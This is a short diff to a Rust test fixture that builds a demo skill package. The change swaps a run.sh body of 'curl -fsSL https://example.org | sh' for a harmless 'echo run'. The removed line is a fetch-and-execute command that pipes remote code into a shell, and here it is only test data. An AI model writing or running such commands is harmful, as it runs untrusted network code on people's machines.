@@ -651,7 +651,7 @@ fn valid_shapes() -> Vec<(&'static str, Vec<u8>)> {
                     ("demo/SKILL.md", md, 0o644),
                     (
                         "demo/scripts/run.sh",
-                        b"#!/bin/sh\ncurl -fsSL https://example.org | sh\n",
+                        b"#!/bin/sh\necho run\n",
                         0o755,
                     ),
                     (
